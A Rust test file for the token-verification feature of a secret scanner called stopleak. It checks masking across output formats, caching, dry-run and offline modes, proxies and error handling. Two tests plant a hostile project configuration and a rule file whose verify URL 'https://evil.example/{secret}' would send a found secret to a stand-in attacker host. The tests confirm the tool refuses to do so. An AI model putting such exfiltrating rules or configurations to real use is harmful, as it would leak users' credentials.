//! Asking providers by the command line: what is told, what may be asked, and what never leaves.

use super::server::{Asked, Reply, Server};
use super::{Project, Run};
use serde_json::Value;
use stopleak_core::rule::example;

const USER: &str = r#"{"login":"octocat","type":"User"}"#;

fn token(seed: u64) -> String {
    example::expand("<github:ghp_>", seed).unwrap()
}

/// A provider that knows these tokens and refuses all others.
fn knowing(tokens: &[String]) -> Server {
    let tokens = tokens.to_vec();
    Server::start(move |asked: &Asked| {
        let said = asked.header("authorization").unwrap_or_default();
        match tokens.iter().any(|token| said == format!("Bearer {token}")) {
            true => Reply::new(200, USER).header("X-OAuth-Scopes", "repo"),
            false => Reply::new(401, r#"{"message":"Bad credentials"}"#),
        }
    })
}

/// A project with two tokens, its state apart from the user's.
fn project() -> Project {
    Project::new().file("a.env", format!("A={}\n", token(1))).file("b.env", format!("B={}\n", token(2)))
}

fn run(project: &Project, args: &str) -> Run {
    run_with(project, args, &[])
}

fn run_with(project: &Project, args: &str, variables: &[(&str, &str)]) -> Run {
    let mut command = project.command(args);
    for name in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"] {
        command.env_remove(name);
    }
    command.env("XDG_STATE_HOME", project.path().join("state")).envs(variables.iter().copied());
    let output = command.output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    Run { code: output.status.code().unwrap(), stdout: text(output.stdout), stderr: text(output.stderr) }
}

fn words(run: &Run) -> Vec<(String, String)> {
    let word = |finding: &Value, key: &str| finding[key].as_str().unwrap_or_default().to_owned();
    let mut words: Vec<(String, String)> =
        run.lines("finding").iter().map(|finding| (word(finding, "path"), word(finding, "validity"))).collect();
    words.sort();
    words
}

fn pairs(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect()
}

#[test]
fn a_scan_asks_and_tells_in_every_format_and_no_value_leaves() {
    let (project, server) = (project(), knowing(&[token(1)]));
    let ask = format!("--endpoint github=http://{}", server.host);
    let lines = run(&project, &format!("scan --verify {ask} -f jsonl ."));
    assert_eq!(lines.code, 1, "{}", lines.stderr);
    assert_eq!(words(&lines), pairs(&[("a.env", "active"), ("b.env", "inactive")]));
    let live = lines.lines("finding").into_iter().find(|finding| finding["validity"] == "active").unwrap();
    let told = serde_json::json!({"identity": {"account": "octocat", "kind": "User"}, "scopes": "repo"});
    assert_eq!(live["verification"], told);
    for format in ["text", "json", "sarif", "gitlab", "github", "markdown", "html", "junit", "csv"] {
        let report = run(&project, &format!("scan --verify {ask} -f {format} ."));
        assert!(report.stdout.contains("octocat"), "{format}: {}", report.stdout);
        let shown = report.stdout + &report.stderr;
        let masked = shown.lines().filter(|line| !line.starts_with("::add-mask::"));
        let masked: String = masked.collect();
        assert!(!masked.contains(&token(1)) && !masked.contains(&token(2)), "{format}");
    }
    assert_eq!(server.asked().len(), 3, "two questions, one control: later scans know the answers");
    assert!(server.asked().iter().all(|asked| asked.path == "/user"));
    assert_eq!(run(&project, &format!("scan --verify --no-verify-cache {ask} -f jsonl .")).code, 1);
    assert_eq!(server.asked().len(), 6);
}

#[test]
fn only_what_is_wanted_is_told_and_counts() {
    let (project, server) = (project(), knowing(&[token(1)]));
    let ask = format!("scan --verify --endpoint github=http://{} -f jsonl", server.host);
    let (a, b) = (("a.env", "active"), ("b.env", "inactive"));
    let table =
        [("active", vec![a], 1), ("inactive", vec![b], 1), ("active,inactive", vec![a, b], 1), ("unknown", vec![], 0)];
    for (only, expected, code) in table {
        let run = run(&project, &format!("{ask} --only {only} ."));
        assert_eq!((words(&run), run.code), (pairs(&expected), code), "{only}: {}", run.stderr);
    }
    assert!(run(&project, "scan --only active .").stderr.contains("--verify"));
    let closed = "http://127.0.0.1:1";
    let lost =
        run(&project, &format!("scan --verify --no-verify-cache --endpoint github={closed} -f jsonl --only active ."));
    assert_eq!((lost.code, lost.lines("finding").len()), (2, 0), "{}", lost.stderr);
    assert!(lost.stderr.contains("gave no answer"), "{}", lost.stderr);
}

#[test]
fn the_policy_judges_by_what_the_provider_said() {
    let server = knowing(&[token(1)]);
    let project = project().file(
        "stopleak.toml",
        "[[policy.rules]]\nverdict = 'allow'\nvalidity = 'inactive'\nreason = 'dead'\n\
         [[policy.rules]]\nverdict = 'allow'\nvalidity = 'unchecked'\nreason = 'not asked'\n",
    );
    let scan = |verify: &str| run(&project, &format!("scan {verify} -f jsonl ."));
    assert_eq!(scan("").code, 0);
    let asked = scan(&format!("--verify --endpoint github=http://{}", server.host));
    assert_eq!((words(&asked), asked.code), (pairs(&[("a.env", "active")]), 1), "{}", asked.stderr);
}

#[test]
fn settings_that_were_only_found_have_no_say_in_where_secrets_are_sent() {
    let (thief, server) = (knowing(&[]), knowing(&[token(1)]));
    let settings = format!(
        "[verify]\nscanned-hosts = true\nhosts = ['*.evil.example']\n[verify.endpoints]\ngithub = ['http://{}']\n",
        thief.host
    );
    let project = project().file("stopleak.toml", settings);
    let own = format!("--endpoint github=http://{}", server.host);
    let found = run(&project, &format!("scan --verify {own} -f jsonl ."));
    assert_eq!(words(&found), pairs(&[("a.env", "active"), ("b.env", "inactive")]));
    assert!(thief.asked().is_empty() && found.stderr.contains("have no say"), "{}", found.stderr);
    let named = run(&project, "scan --verify --no-verify-cache --config stopleak.toml -f jsonl .");
    assert_eq!(words(&named), pairs(&[("a.env", "inactive"), ("b.env", "inactive")]), "{}", named.stderr);
    assert_eq!(thief.asked().len(), 2);
}

#[test]
fn a_rule_file_that_only_the_project_names_asks_nobody() {
    let rules = r#"[provider]
id = "acme"
name = "Acme"
references = ["https://acme.example/docs"]
hosts = ["evil.example"]

[[rule]]
id = "acme.api-key"
name = "Acme API key"
severity = "high"
pattern = 'acme_live_[A-Za-z0-9]{32}'

[rule.examples]
match = ['acme_live_<base62:32>', 'k=acme_live_<base62:32>']
no-match = ['acme_live_<base62:31>', 'acne_live_<base62:32>']

[[rule.verify]]
url = "https://evil.example/{secret}"
secret-in-url = "it takes it"
active = { has = "/id" }
inactive = { status = 401 }
examples = [{ status = 200, body = '{"id":7}', means = "active" }, { status = 401, means = "inactive" }]
"#;
    let value = example::expand("acme_live_<base62:32>", 3).unwrap();
    let project = Project::new()
        .file("rules/acme.toml", rules)
        .file("stopleak.toml", "[rules]\npaths = ['rules']\n")
        .file("a.env", format!("A={value}\n"));
    let run = run(&project, "scan --verify -f jsonl a.env");
    let finding = &run.lines("finding")[0];
    assert_eq!((&finding["rule"], &finding["verification"]["doubt"]), (&"acme.api-key".into(), &"not-allowed".into()));
}

#[test]
fn saved_findings_are_asked_about_with_their_values_or_found_again() {
    let (project, server) = (project(), knowing(&[token(1)]));
    let ask = format!("--endpoint github=http://{} --no-verify-cache", server.host);
    run(&project, "scan -f json=clear.json -q --show-secrets .");
    run(&project, "scan -f jsonl=redacted.jsonl -q a.env b.env");
    let both = pairs(&[("a.env", "active"), ("b.env", "inactive")]);
    let clear = run(&project, &format!("verify {ask} -f jsonl clear.json"));
    assert_eq!((words(&clear), clear.code), (both.clone(), 1), "{}", clear.stderr);
    assert!(!clear.stdout.contains(&token(1)));
    let lost = run(&project, &format!("verify {ask} -f jsonl redacted.jsonl"));
    assert_eq!(words(&lost), pairs(&[("a.env", "unknown"), ("b.env", "unknown")]));
    assert!(lost.stdout.contains("name the target it was found in"));
    let again = run(&project, &format!("verify {ask} -f jsonl redacted.jsonl a.env b.env"));
    assert_eq!(words(&again), both, "{}", again.stderr);
    std::fs::remove_file(project.path().join("b.env")).unwrap();
    let gone = run(&project, &format!("verify {ask} -f jsonl redacted.jsonl a.env"));
    assert_eq!(words(&gone), pairs(&[("a.env", "active"), ("b.env", "unknown")]));
    assert!(gone.stdout.contains("not found again"));
}

#[test]
fn a_saved_finding_is_asked_about_anew_whatever_was_answered_before() {
    let (project, server) = (project(), knowing(&[token(1)]));
    let ask = format!("--endpoint github=http://{}", server.host);
    run(&project, &format!("scan --verify {ask} -f json=found.json -q --show-secrets a.env"));
    let asked = server.asked().len();
    assert_eq!(run(&project, &format!("scan --verify {ask} -f jsonl a.env")).code, 1);
    assert_eq!(server.asked().len(), asked, "a scan takes the answer that is kept");
    run(&project, &format!("verify {ask} -f jsonl found.json"));
    assert!(server.asked().len() > asked);
}

#[test]
fn what_would_be_asked_is_shown_and_nobody_is_asked() {
    let (project, server) = (project(), knowing(&[token(1)]));
    let project =
        project.file("c.env", example::expand("SHOP=acme-store.myshopify.com\nT=shpat_<hex:32>\n", 4).unwrap());
    run(&project, "scan -f json=found.json -q --show-secrets .");
    let ask = format!("--endpoint github=http://{}", server.host);
    let dry = run(&project, &format!("verify --dry-run --offline {ask} found.json"));
    assert_eq!(dry.code, 0, "{}", dry.stderr);
    assert!(dry.stdout.contains(&format!("GET http://{}/user", server.host)), "{}", dry.stdout);
    assert!(
        dry.stdout.contains("Authorization: Bearer {secret}") && dry.stdout.contains("not sent: "),
        "{}",
        dry.stdout
    );
    assert!(!dry.stdout.contains(&token(1)) && !dry.stderr.contains(&token(1)));
    let hosts = run(&project, &format!("verify --hosts {ask} found.json"));
    assert_eq!(hosts.stdout, format!("{}\n", server.host));
    let allowed = run(&project, &format!("verify --hosts --scanned-hosts {ask} found.json"));
    assert_eq!(allowed.stdout, format!("{}\nacme-store.myshopify.com\n", server.host));
    let all = run(&project, "verify --hosts");
    let hosts: Vec<&str> = all.stdout.lines().collect();
    assert!(hosts.len() > 700 && hosts.contains(&"api.github.com") && hosts.is_sorted(), "{}", hosts.len());
    assert!(server.asked().is_empty());
}

#[test]
fn offline_is_absolute() {
    let project = project().file("found.json", "");
    for args in ["scan --verify --offline .", "verify --offline found.json"] {
        let run = run(&project, args);
        assert!(run.code == 2 && run.stderr.contains("--offline forbids"), "{args}: {}", run.stderr);
    }
}

#[test]
fn a_proxy_is_used_where_the_environment_names_one() {
    let proxy = Server::start(|_| Reply::new(403, ""));
    let project = project();
    let url = format!("http://{}", proxy.host);
    let ask = "scan --verify --no-verify-cache --endpoint github=https://ghe.corp.example/api/v3 -f jsonl a.env";
    let asked = run_with(&project, ask, &[("HTTPS_PROXY", &url)]);
    assert_eq!(words(&asked), pairs(&[("a.env", "unknown")]));
    let asked = proxy.asked();
    assert!(!asked.is_empty() && asked.iter().all(|asked| asked.method == "CONNECT"), "{asked:?}");
    assert!(asked.iter().all(|asked| asked.path == "ghe.corp.example:443" && asked.header("authorization").is_none()));
}

#[test]
fn a_mistake_in_what_is_allowed_is_an_error() {
    let table = [
        ("--endpoint github", "names no address"),
        ("--endpoint github=http://ghe.corp", "without TLS"),
        ("--endpoint nobody=https://x.corp", "no rule is of the provider"),
        ("--verify-ca missing.pem", "certificate authority"),
    ];
    for (args, expected) in table {
        let run = run(&project(), &format!("scan --verify {args} ."));
        assert!(run.code == 2 && run.stderr.contains(expected), "{args}: {}", run.stderr);
    }
}
